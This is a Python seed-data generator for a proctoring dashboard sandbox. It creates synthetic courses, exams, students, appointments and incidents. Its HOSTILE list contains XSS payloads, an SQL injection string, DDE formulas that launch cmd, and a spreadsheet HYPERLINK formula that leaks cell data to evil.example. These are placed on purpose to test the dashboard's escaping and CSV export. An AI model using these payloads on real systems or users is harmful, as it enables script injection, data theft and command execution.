"""Deterministic seed data for the sandbox: courses, offerings, exams, enrollments, configurations, appointments,
and ProctorExam exams with student sessions and incidents.

Everything comes from `random.Random(seed)` (never the global generator), and every date is an offset from an
anchor time, so the same seed and anchor give the same data. Records are kept as JSON-ready dicts in the key order
of the reference pages; `store.py` adds the clock (status changes) and the writes.

A small share of names, titles and comments is hostile on purpose (markup, spreadsheet formulas, very long or
non-ASCII text) so the dashboard's escaping and CSV export are exercised by ordinary data.
"""

from __future__ import annotations

import hashlib
import itertools
import random
import time
from dataclasses import dataclass, field
from datetime import datetime, timezone

from proctordash.core.vocabulary import APPOINTMENT_TYPES, PERMITTED_ITEMS

HOUR = 3600.0
DAY = 24 * HOUR

# --- vocabularies for plausible data -------------------------------------------------------------------------------
FIRST_NAMES = [
    "Olivia", "Liam", "Emma", "Noah", "Ava", "Elijah", "Sophia", "Mateo", "Isabella", "Lucas", "Mia", "Ethan",
    "Amelia", "James", "Harper", "Benjamin", "Evelyn", "Aiden", "Abigail", "Samuel", "Priya", "Arjun", "Fatima",
    "Omar", "Mei", "Hiroshi", "Yuki", "Chloé", "José", "Zoë", "Łukasz", "Søren", "Björn", "Ngọc Anh", "Siobhán",
    "François", "Ümit", "Dmitrii", "Anaïs", "Nuño", "Aleksandra", "Kwame", "Adaeze", "Tomás", "Renée", "Ji-woo",
    "李", "María José", "Jean-Luc", "D'Andre",
]
LAST_NAMES = [
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez", "Martinez",
    "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore", "Jackson", "Martin",
    "Lee", "Perez", "Thompson", "White", "Harris", "Nguyen", "Patel", "Kim", "O'Brien", "Müller", "Núñez",
    "Kowalczyk", "Øvergaard", "Dubois", "Søndergaard", "Yılmaz", "Ivanova", "Okafor", "Mensah", "Tanaka",
    "van der Berg", "de la Cruz", "Zhang", "王", "Ferreira-Gonçalves", "Castañeda", "Abdullah", "Schröder",
]
VERY_LONG_FIRST = "Maximiliana Alexandrina Konstantina Theodora Evangelina"
VERY_LONG_LAST = (
    "Wolfeschlegelsteinhausenbergerdorff-Montgomery-Featherstonehaugh-Cholmondeley-"
    "Vanderbilt-Ramírez-Szczepańska-Oyelaran-Nakamura"
)
# Hostile strings: must be shown as text and exported with a formula guard, never executed.
HOSTILE = [
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(A1:A9)",
    "\"><img src=x onerror=alert(2)>",
    "Robert'); DROP TABLE students;--",
]
SUBJECTS = [
    ("BIO", "Biology"), ("CHEM", "Chemistry"), ("MATH", "Mathematics"), ("PHYS", "Physics"), ("HIST", "History"),
    ("ECON", "Economics"), ("PSYC", "Psychology"), ("CS", "Computer Science"), ("STAT", "Statistics"),
    ("ENGL", "English Literature"), ("NURS", "Nursing"), ("ACCT", "Accounting"), ("PHIL", "Philosophy"),
    ("SOC", "Sociology"), ("SPAN", "Spanish"), ("ART", "Art History"),
]
COURSE_TOPICS = [
    "Introduction to {s}", "Foundations of {s}", "Principles of {s}", "{s} I", "{s} II", "Advanced {s}",
    "Topics in {s}", "Applied {s}", "{s} for Health Professions", "Research Methods in {s}",
]
EXAM_TITLES = [
    "Midterm Exam", "Final Exam", "Quiz 1", "Quiz 2", "Quiz 3", "Unit 1 Test", "Unit 2 Test", "Practice Exam",
    "Chapter 4–6 Assessment", "Lab Practical", "Entrance Placement Test", "Cumulative Final (Make-up)",
]
INSTRUCTORS = [
    "Dr. Alice Moreau", "Prof. Daniel Okoye", "Dr. Hannah Lindqvist", "Prof. Rafael Ortega", "Dr. Mei-Ling Chen",
    "Prof. Sarah O'Connell", "Dr. Jürgen Weiß", "Prof. Amara Nwosu", "Dr. Kenji Watanabe", "Prof. Lucía Fernández",
]
TERMS = ["Spring", "Summer", "Fall"]
INCIDENT_COMMENTS = [
    "Student looked away from the screen repeatedly", "Second person visible in the room", "Phone on the desk",
    "Student left the room for about two minutes", "Voices audible in the background", "Webcam covered",
    "Screen share interrupted", "Student used a second monitor", "Notes visible on the wall",
    "Schüler hat kurz den Raum verlassen", "Étudiant parle à voix basse", "Kopfhörer getragen",
]
OPERATING_SYSTEMS = ["Windows 10", "Windows 11", "OS X 10.15.7", "macOS 14.4", "Chrome OS 120", "Ubuntu 22.04"]
BROWSERS = [("Chrome", "124.0.6367.91"), ("Chrome", "70.0.3538.102"), ("Firefox", "125.0"), ("Edge", "124.0.2478")]
SCHEDULING_MODULES = ["native", "proctoru", "examity", "registerblast"]
APPOINTMENT_TYPE_WEIGHTS = {
    "b-virtual": 20, "proctoru": 18, "examity": 10, "automated": 15, "instructor-as-proctor": 10,
    "register-blast": 5, "ad-hoc": 8, "vtc": 7, "messaging": 7,
}
assert set(APPOINTMENT_TYPE_WEIGHTS) == set(APPOINTMENT_TYPES)


# --- helpers ----------------------------------------------------------------------------------------------------
_ISO_CACHE: dict[float, str] = {}


def iso_z(ts: float | None) -> str | None:
    """Epoch seconds → the upstream's `1970-01-01T00:00:00.000Z`."""
    if ts is None:
        return None
    text = _ISO_CACHE.get(ts)  # appointment times sit on five-minute marks: most repeat
    if text is None:
        seconds, millis = divmod(int(round(ts * 1000)), 1000)
        text = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + ".%03dZ" % millis
        if len(_ISO_CACHE) < 500_000:
            _ISO_CACHE[ts] = text
    return text


def new_sid(rng: random.Random, prefix: str) -> str:
    return f"{prefix}{rng.getrandbits(128):032x}"


def _course_sid(seed: int, index: int) -> str:
    # Derived from (seed, index) alone so demo_course_sids() needs no generation and holds for any data size.
    return "CU" + hashlib.sha256(f"proctordash-sandbox:{seed}:course:{index}".encode()).hexdigest()[:32]


def demo_course_sids(seed: int, count: int = 2) -> list[str]:
    """SIDs of the first `count` courses of the data for `seed`: they exist at every size and have appointments."""
    return [_course_sid(seed, i) for i in range(count)]


def _maybe(rng: random.Random, share_null: float, value):
    return None if rng.random() < share_null else value


def _hostile_or(rng: random.Random, value: str, share: float = 0.02) -> str:
    return rng.choice(HOSTILE) if rng.random() < share else value


# --- the world ------------------------------------------------------------------------------------------------------
class Appointment:
    """One row of the appointment report. `doc` is the JSON-ready record (nested course/exam/enrollment dicts are
    shared with other records); the other attributes are what filters, ordering and the clock need."""

    __slots__ = ("sid", "doc", "date", "duration", "lifecycle", "course_sid", "offering_sid", "exam", "enrollment",
                 "config_sid", "created", "edited", "review_done_at", "cached")

    def __init__(self, **kw):
        for key, value in kw.items():
            setattr(self, key, value)
        self.cached = None  # JSON bytes of doc, rebuilt after a change


@dataclass
class PESession:
    id: int
    exam_id: int
    name: str
    email: str
    start: float  # reservation time = when the student is booked to start
    duration: float
    created: float
    branch: str  # "normal" | "bounced" | "no_show" | "failed_check"
    static: dict = field(default_factory=dict)  # fields that never change
    incidents: list = field(default_factory=list)  # (visible_at, dict)


@dataclass
class PEExam:
    id: int
    name: str
    start: float
    end: float
    draft: bool
    created: float
    extra: dict = field(default_factory=dict)
    sessions: list = field(default_factory=list)


@dataclass
class World:
    seed: int
    anchor: float
    courses: dict = field(default_factory=dict)  # sid → course dict (without offering)
    offerings: dict = field(default_factory=dict)  # sid → offering dict
    exams: dict = field(default_factory=dict)  # sid → full exam dict (Create Exam response shape)
    exam_summaries: dict = field(default_factory=dict)  # sid → the `exam` object nested in appointments
    configurations: dict = field(default_factory=dict)  # sid → full configuration (Get/Update response shape)
    enrollments: dict = field(default_factory=dict)  # sid → enrollment dict
    appointments: list = field(default_factory=list)  # ordered: appointmentDate asc, nulls last, then sid
    pe_exams: list = field(default_factory=list)
    next_pe_incident_id: int = 1


_TYPE_NAMES = list(APPOINTMENT_TYPE_WEIGHTS)
_TYPE_CUM = list(itertools.accumulate(APPOINTMENT_TYPE_WEIGHTS.values()))


def _pick_type(rng: random.Random) -> str:
    return rng.choices(_TYPE_NAMES, cum_weights=_TYPE_CUM)[0]


def _student_name(rng: random.Random) -> tuple[str, str]:
    roll = rng.random()
    if roll < 0.01:
        return VERY_LONG_FIRST, VERY_LONG_LAST
    if roll < 0.025:
        return rng.choice(HOSTILE), rng.choice(LAST_NAMES)
    if roll < 0.035:
        return rng.choice(FIRST_NAMES), rng.choice(HOSTILE)
    return rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)


def _email_local(first: str, last: str, n: int) -> str:
    # Plausible address from the name: ASCII letters only (hostile names still give a clean address).
    def clean(text: str) -> str:
        return "".join(ch for ch in text.lower() if ch.isascii() and ch.isalnum())[:20]

    return f"{clean(first) or 'student'}.{clean(last) or 'learner'}{n}"


def _configuration(rng: random.Random, *, sid: str, exam_sid: str, anchor: float, created: float,
                   enrollment_sid: str | None, reference_sid: str | None, base: dict | None,
                   exam_type: str, url: str | None) -> dict:
    """A full exam configuration in the Get/Update Configuration response's key order."""
    if base is None:
        open_at = anchor + rng.uniform(-40, 5) * DAY
        close_at = open_at + rng.uniform(14, 70) * DAY
        duration = rng.choice([30, 45, 60, 75, 90, 120, 180])
    else:
        open_at = _parse_back(base["examOpenDate"]) or anchor - 10 * DAY
        close_at = _parse_back(base["examCloseDate"]) or anchor + 30 * DAY
        # Accommodations: time and a half or double time.
        duration = int((base["duration"] or 60) * rng.choice([1.5, 2]))
    permitted = {}
    for item in PERMITTED_ITEMS:
        allowed = rng.random() < (0.5 if base is not None else 0.25)
        info = None
        if allowed and rng.random() < 0.6:
            info = {"Calculator": "Basic four-function only", "Notes": "One page, both sides",
                    "BathroomBreak": "Up to 5 minutes, camera on", "FormulaSheet": "Provided sheet only",
                    "Websites": "https://www.desmos.com/calculator"}.get(item, f"{item} allowed as agreed")
        permitted[item] = (allowed, info)
    doc = {
        "sid": sid,
        "examSid": exam_sid,
        "enrollmentSid": enrollment_sid,
        "referenceExamConfigurationSid": reference_sid,
        "type": "student" if enrollment_sid else "exam",
        "examOpenDate": _maybe(rng, 0.1, iso_z(open_at)),
        "examCloseDate": _maybe(rng, 0.1, iso_z(close_at)),
        "scheduleOpenDate": _maybe(rng, 0.2, iso_z(open_at - 7 * DAY)),
        "scheduleCloseDate": _maybe(rng, 0.2, iso_z(close_at - DAY)),
        "password": (f"pw-{rng.getrandbits(24):06x}" if exam_type == "Online" else None),
        "url": url,
        "duration": duration,
        "attempts": _maybe(rng, 0.1, rng.choice([1, 1, 1, 2, 3])),
        "attemptsRemaining": None,
        "locked": rng.random() < 0.05,
        "approved": _maybe(rng, 0.2, rng.random() < 0.9),
        "approvedBy": _maybe(rng, 0.5, rng.choice(INSTRUCTORS)),
        "requiredSoftware": _maybe(rng, 0.6, rng.choice(["Respondus LockDown Browser", "Chrome 120+", "Excel"])),
        "studentNotes": _maybe(rng, 0.5, _hostile_or(rng, "Have your student ID ready. Clear your desk.", 0.04)),
    }
    for item in PERMITTED_ITEMS:
        allowed, info = permitted[item]
        doc[f"permitted{item}"] = allowed
        doc[f"permitted{item}Information"] = info
        if item == "Notes":
            doc["permittedOtherItems"] = _maybe(rng, 0.7, "Water in a clear bottle")
    doc.update({
        "apiExamId": _maybe(rng, 0.6, str(rng.randint(10000, 99999))),
        "examSyncStatus": _maybe(rng, 0.5, rng.choice(["synced", "pending", "failed"])),
        "virtualCalculatorType": _maybe(rng, 0.7, rng.choice(["scientific-calc", "basic-calc", "graphing-calc"])),
        "synchronization": {"exam": {"lastRun": iso_z(anchor - rng.uniform(0, 2) * DAY),
                                     "lastRunResult": rng.choice(["success", "success", "success", "failure"]),
                                     "nextRun": iso_z(anchor + rng.uniform(0, 1) * DAY)}},
        "proctorNotes": _maybe(rng, 0.5, _hostile_or(rng, "Check the desk and the walls during the room scan.", 0.04)),
        "proctorTypes": [f"TS{rng.getrandbits(128):032x}" for _ in range(rng.randint(0, 2))],
        "attachments": None,
        "examFiles": None,
        "instructorAsProctor": [],
        "exam": None,
        "course": None,
        "enrollment": None,
        "createdDate": iso_z(created),
        "editDate": iso_z(created + rng.uniform(0, 5) * DAY),
        "instructor": None,
        "modalityOptions": None,
        "updatedAutomatedSessions": None,
    })
    return doc


def _parse_back(value: str | None) -> float | None:
    if value is None:
        return None
    return datetime.fromisoformat(value).timestamp()


def generate(*, seed: int, appointments: int, anchor: float) -> World:
    """Build the whole world for `seed`; `anchor` is the time the relative dates hang from."""
    rng = random.Random(seed)
    world = World(seed=seed, anchor=anchor)
    n_courses = max(6, min(150, appointments // 100))

    # Terms: the current one and its neighbours, named after the anchor's calendar.
    year = datetime.fromtimestamp(anchor, timezone.utc).year
    term_names = [f"{t} {year}" for t in TERMS]

    course_exams: dict[str, list[str]] = {}
    course_enrollments: dict[str, list[str]] = {}
    course_offering_docs: dict[str, list[dict]] = {}
    users: list[tuple[str, str, str, str]] = []  # (userSid, first, last, email)
    for n in range(max(40, appointments // 6)):
        first, last = _student_name(rng)
        email = _maybe(rng, 0.01, f"{_email_local(first, last, n)}@students.example.edu")
        if email and rng.random() < 0.01:
            email = f"{_email_local(first, last, n)}.{'x' * 60}@long-department-name.students.example.edu"
        users.append((new_sid(rng, "US"), first, last, email))

    for ci in range(n_courses):
        code_prefix, subject = SUBJECTS[ci % len(SUBJECTS)]
        number = 100 + (ci * 37) % 400
        title = rng.choice(COURSE_TOPICS).format(s=subject)
        if ci >= 2 and rng.random() < 0.03:
            title = rng.choice(HOSTILE)
        created = anchor - rng.uniform(60, 400) * DAY
        course_sid = _course_sid(seed, ci)
        course = {
            "sid": course_sid,
            "title": title,
            "code": f"{code_prefix} {number}",
            "synchronization": {"enrollment": {"lastRun": iso_z(anchor - rng.uniform(0, 1) * DAY),
                                               "lastRunResult": rng.choice(["success", "success", "failure"]),
                                               "nextRun": iso_z(anchor + rng.uniform(0, 1) * DAY)}},
            "createdDate": iso_z(created),
            "editDate": iso_z(created + rng.uniform(0, 30) * DAY),
        }
        if rng.random() < 0.1:
            del course["synchronization"]  # nested objects are sometimes absent
        world.courses[course_sid] = course
        offerings = []
        for oi in range(rng.randint(1, 3)):
            start = anchor - rng.uniform(30, 60) * DAY
            offering = {
                "sid": new_sid(rng, "CO"),
                "lastActivityDate": _maybe(rng, 0.2, iso_z(anchor - rng.uniform(0, 3) * DAY)),
                "title": f"{code_prefix} {number} — {rng.choice(term_names)} — Section {oi + 1:02d}",
                "matchStrings": _maybe(rng, 0.5, f"{code_prefix}{number}-{oi + 1:02d}"),
                "startDate": iso_z(start),
                "endDate": iso_z(start + 110 * DAY),
                "createdDate": iso_z(start - 20 * DAY),
                "editDate": iso_z(start - rng.uniform(0, 19) * DAY),
            }
            world.offerings[offering["sid"]] = offering
            offerings.append(offering)
        course_offering_docs[course_sid] = offerings

        instructor = rng.choice(INSTRUCTORS)
        exams = []
        for ei in range(rng.randint(2, 6)):
            exam_sid = new_sid(rng, "EX")
            exam_type = "Online" if rng.random() < 0.7 else "Written"
            url = f"https://lms.example.edu/courses/{number}/quizzes/{rng.randint(1000, 9999)}" \
                if exam_type == "Online" else None
            # The demo's two courses keep their exams active so the instructor sees a full page.
            status = "active" if ci < 2 else rng.choices(["active", "draft", "deleted"], weights=[85, 10, 5])[0]
            exam_title = rng.choice(EXAM_TITLES) if rng.random() > 0.03 else rng.choice(HOSTILE)
            require_approval = rng.random() < 0.3
            created = anchor - rng.uniform(20, 80) * DAY
            config_sid = new_sid(rng, "EC")
            config = _configuration(rng, sid=config_sid, exam_sid=exam_sid, anchor=anchor, created=created,
                                    enrollment_sid=None, reference_sid=None, base=None, exam_type=exam_type, url=url)
            world.configurations[config_sid] = config
            exam = {
                "sessionStatus": None,
                "sid": exam_sid,
                "courseSid": course_sid,
                "applicationInstallSid": None,  # filled in by the store with the configured install
                "title": exam_title,
                "bVirtualTitle": _maybe(rng, 0.7, f"{code_prefix} {number} {exam_title}"),
                "type": exam_type,
                "description": _maybe(rng, 0.4, rng.choice(["Covers chapters 1-5", "Closed book", "Open book, 2 h",
                                                             "Bring a photo ID", HOSTILE[0]])),
                "useProctorManager": rng.random() < 0.6,
                "requireApproval": require_approval,
                "enableAppointmentSuggestions": rng.random() < 0.7,
                "url": url,
                "status": status,
                "createdDate": iso_z(created),
                "editDate": iso_z(created + rng.uniform(0, 10) * DAY),
                "contactUserSid": _maybe(rng, 0.5, new_sid(rng, "US")),
                "examDeliverySystemModule": rng.choice(["canvas", "blackboard", "moodle", "d2l"]),
                "summary": None,
                "pendingApprovals": 0,
                "openSessionEvents": 0,
                "course": None,
                "configuration": None,
                "examSession": None,
                "instructorName": _maybe(rng, 0.1, instructor),
                "courseName": title,
                "totalSessions": 0,
                "needsProctorSessions": 0,
                "scriptName": None,
                "systemName": None,
                "isLimitedScope": rng.random() < 0.1,
                "platformVersion": rng.choice(["v2", "v3"]),
                # not part of the response: the base configuration of this exam
                "_baseConfigurationSid": config_sid,
            }
            world.exams[exam_sid] = exam
            exams.append(exam_sid)
        course_exams[course_sid] = exams

        # Enrollments: a sample of the users, each with the course's offering (section).
        size = max(8, min(len(users), int(rng.gauss(appointments / n_courses / 2.5, 5)) + 8))
        enrolled = []
        for user_sid, first, last, email in rng.sample(users, min(size, len(users))):
            enrollment_sid = new_sid(rng, "EN")
            created = anchor - rng.uniform(30, 120) * DAY
            enrollment = {
                "userSid": user_sid,
                "enrollmentSid": enrollment_sid,
                "courseSid": course_sid,
                "role": "student",
                "firstName": _maybe(rng, 0.01, first),
                "lastName": _maybe(rng, 0.01, last),
                "email": email,
                "synchronization": {"failure1": None, "failure2": None, "failure3": None, "failure4": None,
                                    "lastSync": iso_z(anchor - rng.uniform(0, 2) * DAY)},
                "createdDate": iso_z(created),
                "editDate": iso_z(created + rng.uniform(0, 10) * DAY),
                "user": {},
                "course": {},
                "_offering": rng.choice(offerings)["sid"],
            }
            if rng.random() < 0.1:
                del enrollment["synchronization"]
            world.enrollments[enrollment_sid] = enrollment
            enrolled.append(enrollment_sid)
        course_enrollments[course_sid] = enrolled

    # Per-student (accommodation) configurations: ~6 % of enrollments, for the exams of their course.
    student_configs: dict[tuple[str, str], str] = {}
    for course_sid, enrolled in course_enrollments.items():
        for enrollment_sid in enrolled:
            if rng.random() >= 0.06:
                continue
            for exam_sid in course_exams[course_sid]:
                exam = world.exams[exam_sid]
                base = world.configurations[exam["_baseConfigurationSid"]]
                sid = new_sid(rng, "EC")
                world.configurations[sid] = _configuration(
                    rng, sid=sid, exam_sid=exam_sid, anchor=anchor, created=anchor - rng.uniform(5, 30) * DAY,
                    enrollment_sid=enrollment_sid, reference_sid=base["sid"], base=base, exam_type=exam["type"],
                    url=exam["url"])
                student_configs[(enrollment_sid, exam_sid)] = sid

    # Course dicts nested in appointments: the course plus the enrollment's offering (sometimes absent).
    nested_course: dict[tuple[str, str | None], dict] = {}

    def course_doc(course_sid: str, offering_sid: str | None) -> dict:
        key = (course_sid, offering_sid)
        if key not in nested_course:
            doc = dict(world.courses[course_sid])
            if offering_sid is not None:
                doc["offering"] = world.offerings[offering_sid]
            nested_course[key] = doc
        return nested_course[key]

    enrollment_docs = {sid: {k: v for k, v in e.items() if not k.startswith("_")}
                       for sid, e in world.enrollments.items()}
    course_sids = list(world.courses)
    course_cum = list(itertools.accumulate(3 if i < 2 else 1 for i in range(len(course_sids))))
    for exam_sid, exam in world.exams.items():
        world.exam_summaries[exam_sid] = {
            "sid": exam_sid, "courseSid": exam["courseSid"], "title": exam["title"], "type": exam["type"],
            "description": exam["description"], "useProctorManager": exam["useProctorManager"],
            "requireApproval": exam["requireApproval"],
            "enableAppointmentSuggestions": exam["enableAppointmentSuggestions"], "url": exam["url"],
            "status": exam["status"], "instructorName": exam["instructorName"], "courseName": exam["courseName"],
            "totalSessions": 0, "needsProctorSessions": 0, "platformVersion": exam["platformVersion"],
        }

    appts = []
    for _ in range(appointments):
        course_sid = rng.choices(course_sids, cum_weights=course_cum)[0]
        exam_sid = rng.choice(course_exams[course_sid])
        enrollment_sid = rng.choice(course_enrollments[course_sid])
        exam = world.exams[exam_sid]
        enrollment = world.enrollments[enrollment_sid]
        config_sid = student_configs.get((enrollment_sid, exam_sid), exam["_baseConfigurationSid"])
        duration = (world.configurations[config_sid]["duration"] or 60) * 60.0
        # Dates spread over past and coming four weeks, a tenth of them close to now so the monitor is busy.
        if rng.random() < 0.1:
            date = anchor + rng.uniform(-6, 6) * HOUR
        else:
            date = anchor + rng.uniform(-28, 28) * DAY
        date = round(date / 300) * 300  # appointments start on five-minute marks
        created = min(date, anchor) - rng.uniform(1, 20) * DAY
        roll = rng.random()
        lifecycle = False
        if roll < 0.08:
            status = "Cancelled"
        elif roll < 0.16 and date > anchor:
            status = "Needs Proctor"
            if rng.random() < 0.5:
                date = None  # not booked yet: no appointment date
        else:
            lifecycle = True
            status = "Scheduled"  # the store moves it along the clock
        session_type = _pick_type(rng)
        review_required = rng.random() < 0.6
        approved = exam["requireApproval"] and rng.random() < 0.8
        external = session_type in ("proctoru", "examity", "register-blast")
        offering_sid = enrollment["_offering"] if rng.random() > 0.05 else None
        system_check = date is not None and rng.random() < 0.5
        sid = new_sid(rng, "ES")
        doc = {
            "sid": sid,
            "examSid": exam_sid,
            "enrollmentSid": enrollment_sid,
            "instructorProctorSid": new_sid(rng, "US") if session_type == "instructor-as-proctor" else None,
            "status": status,
            "sessionType": session_type,
            "schedulingModule": _maybe(rng, 0.2, rng.choice(SCHEDULING_MODULES)),
            "proctorReviewProcessSid": _maybe(rng, 0.7, new_sid(rng, "PR")),
            "appointmentDate": iso_z(date),
            "dateApproved": iso_z(created + HOUR) if approved else None,
            "dateScheduled": iso_z(created) if date is not None else None,
            "externalAppointmentId": str(rng.randint(10_000_000, 99_999_999)) if external else None,
            "externalReservedAppointmentId": _maybe(rng, 0.8, str(rng.randint(1000, 9999))) if external else None,
            "externalReservedAppointmentExpires": None,
            "recordingStartDate": None,
            "sessionReportCount": 0,
            "series": {} if rng.random() < 0.9 else None,
            "reviewByDate": iso_z(date + 3 * DAY) if (review_required and date is not None) else None,
            "reviewCompletedDate": None,
            "reviewRequired": review_required,
            "platformVersion": _maybe(rng, 0.1, rng.choice(["v2", "v3"])),
            "systemCheckStartDate": iso_z(date - DAY) if system_check else None,
            "systemCheckEndDate": iso_z(date - DAY + 240) if system_check else None,
            "mandatoryRoomScanVideo": rng.random() < 0.4,
            "mutedAnnotations": {} if rng.random() < 0.9 else None,
            "exam": world.exam_summaries[exam_sid],
            "enrollment": enrollment_docs[enrollment_sid],
            "course": course_doc(course_sid, offering_sid),
            "examConfiguration": config_sid,  # replaced by the configuration's current subset when rendered
        }
        if rng.random() < 0.03:
            del doc["examConfiguration"]  # nested objects are sometimes absent
            config_ref = None
        else:
            config_ref = config_sid
        review_done_at = None
        if review_required and lifecycle and rng.random() < 0.7:
            review_done_at = date + duration + rng.uniform(2 * HOUR, 3 * DAY)
        appts.append(Appointment(
            sid=sid, doc=doc, date=date, duration=duration, lifecycle=lifecycle, course_sid=course_sid,
            offering_sid=offering_sid, exam=world.exam_summaries[exam_sid], enrollment=enrollment_docs[enrollment_sid],
            config_sid=config_ref, created=created, edited=created, review_done_at=review_done_at,
        ))
        summary = world.exam_summaries[exam_sid]
        summary["totalSessions"] += 1
        if status == "Needs Proctor":
            summary["needsProctorSessions"] += 1
        if exam["requireApproval"] and not approved and status != "Cancelled":
            exam["pendingApprovals"] += 1
    for exam_sid, summary in world.exam_summaries.items():
        world.exams[exam_sid]["totalSessions"] = summary["totalSessions"]
        world.exams[exam_sid]["needsProctorSessions"] = summary["needsProctorSessions"]
    # The report's order: appointmentDate ascending with nulls last, then sid (stable paging).
    appts.sort(key=lambda a: (a.date is None, a.date or 0.0, a.sid))
    world.appointments = appts

    _generate_proctorexam(rng, world, appointments)
    return world


def _generate_proctorexam(rng: random.Random, world: World, appointments: int) -> None:
    anchor = world.anchor
    n_exams = max(8, min(60, 8 + appointments // 2500))
    per_exam = max(10, min(400, appointments // 25))
    session_id = 1
    for i in range(n_exams):
        kind = i % 4  # 0: live now, 1: closed (past), 2: open in the coming days, 3: draft
        if kind == 0:
            start, end = anchor - rng.uniform(2, 8) * HOUR, anchor + rng.uniform(6, 30) * HOUR
        elif kind == 1:
            end = anchor - rng.uniform(1, 20) * DAY
            start = end - rng.uniform(1, 5) * DAY
        elif kind == 2:
            start = anchor + rng.uniform(0.5, 2) * DAY
            end = start + rng.uniform(1, 4) * DAY
        else:
            start = anchor + rng.uniform(5, 30) * DAY
            end = start + 2 * DAY
        code, subject = SUBJECTS[i % len(SUBJECTS)]
        name = f"{code} {100 + i} {rng.choice(EXAM_TITLES)}"
        if rng.random() < 0.05:
            name = rng.choice(HOSTILE)
        created = min(start, anchor) - rng.uniform(10, 30) * DAY
        exam = PEExam(id=i + 1, name=name, start=start, end=end, draft=(kind == 3), created=created, extra={
            "type": rng.choice(["record_review", "live_proctoring", "classroom"]),
            "institute_id": 1,
            "exam_language": rng.choice(["en", "nl", "de", "fr"]),
            "duration": rng.choice([60, 90, 120]),
        })
        count = 0 if kind == 3 and rng.random() < 0.5 else int(per_exam * rng.uniform(0.5, 1.5))
        for _ in range(count):
            first, last = _student_name(rng)
            duration = exam.extra["duration"] * 60.0
            if kind == 0:
                # Spread around now so sessions are in every state while the demo runs.
                slot = anchor + rng.uniform(-3, 4) * HOUR
            else:
                slot = rng.uniform(start, max(start + 1, end - duration))
            slot = round(slot / 60) * 60
            branch = rng.choices(["normal", "bounced", "no_show", "failed_check"], weights=[86, 4, 6, 4])[0]
            os_name = rng.choice(OPERATING_SYSTEMS)
            browser, version = rng.choice(BROWSERS)
            session = PESession(
                id=session_id, exam_id=exam.id, name=f"{first} {last}",
                email=f"{_email_local(first, last, session_id)}@students.example.edu",
                start=slot, duration=duration * rng.uniform(0.5, 1.0),
                created=min(slot, anchor) - rng.uniform(4, 10) * DAY, branch=branch,
                static={
                    "session_id": _maybe(rng, 0.5, rng.randint(1000, 9999)),
                    "student_id": _maybe(rng, 0.6, rng.randint(100000, 999999)),
                    "external_id": _maybe(rng, 0.5, f"EXT-{rng.randint(10000, 99999)}"),
                    "proctor_id": _maybe(rng, 0.5, rng.randint(1, 40)),
                    "time_slot": rng.randint(1, 6),
                    "operating_system": os_name, "browser": browser, "browser_version": version,
                    "individual_info": _maybe(rng, 0.6, _hostile_or(rng, f"Extra time for {first}", 0.1)),
                    "bandwidth_speed": _maybe(rng, 0.4, round(rng.uniform(2, 250), 1)),
                    "priority": rng.choice(["01", "02", "03"]),
                },
            )
            session_id += 1
            if branch == "normal":
                for _ in range(rng.choices([0, 1, 2, 3, 4], weights=[45, 25, 15, 10, 5])[0]):
                    at = session.start + rng.uniform(60, session.duration)
                    comment = _hostile_or(rng, rng.choice(INCIDENT_COMMENTS), 0.05)
                    session.incidents.append((at, {
                        "id": world.next_pe_incident_id, "student_session_id": session.id, "comment": comment,
                        "offset_time": int(at - session.start),
                    }))
                    world.next_pe_incident_id += 1
                session.incidents.sort(key=lambda pair: pair[0])
            exam.sessions.append(session)
        world.pe_exams.append(exam)
